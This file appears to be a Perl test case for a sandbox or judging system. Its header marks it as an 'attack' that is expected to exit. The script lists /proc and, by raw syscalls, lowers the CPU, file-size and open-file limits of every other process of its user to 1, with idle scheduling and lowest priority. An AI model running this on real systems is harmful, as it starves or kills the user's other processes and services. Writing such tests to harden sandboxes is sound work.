# attack: lowers limits and priority of all processes of its user, those that wait for the next program too
# language: perl
# expect: exit *

my ($prlimit, $setpriority, $setscheduler, $setaffinity) = (302, 141, 144, 203);
my ($cpu, $fsize, $nofile) = (0, 1, 7);
my $idle = 5;
for my $pid (grep { $_ != $$ } map { m{/proc/(\d+)$} } glob '/proc/[0-9]*') {
  for my $resource ($cpu, $fsize, $nofile) {
    my $limit = pack 'QQ', 1, 1;
    syscall $prlimit, int $pid, $resource, $limit, 0;
  }
  my $parameter = pack 'i', 0;
  syscall $setscheduler, int $pid, $idle, $parameter;
  syscall $setpriority, 0, int $pid, 19;
}
print "done\n";
